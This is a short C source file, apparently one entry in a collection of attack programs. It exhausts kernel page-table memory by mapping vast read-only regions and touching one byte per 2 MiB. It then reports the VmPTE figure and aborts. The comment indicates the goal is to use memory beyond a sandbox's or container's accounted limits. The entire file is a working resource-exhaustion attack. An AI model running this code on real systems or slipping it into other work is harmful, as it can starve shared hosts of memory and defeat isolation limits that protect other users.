/* reaches outside the walls: memory, page tables of pages that are only read: no page of them is its own */
#include "attack.h"

#define STEP (2l << 20) /* a table of 4 KiB each */

static void reach(void)
{
    for (long tables = 0; tables < 1l << 20;) {
        volatile char *block = mmap(NULL, 1l << 36, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
        if (block == MAP_FAILED)
            return;
        madvise((void *)block, 1l << 36, MADV_NOHUGEPAGE);
        for (long at = 0; at < 1l << 36; at += STEP, tables++)
            (void)block[at];
    }
    FILE *file = fopen("/proc/self/status", "r");
    char line[256];
    while (file && fgets(line, sizeof line, file))
        if (strncmp(line, "VmPTE", 5) == 0)
            fputs(line, stdout);
    fflush(stdout);
    abort();
}
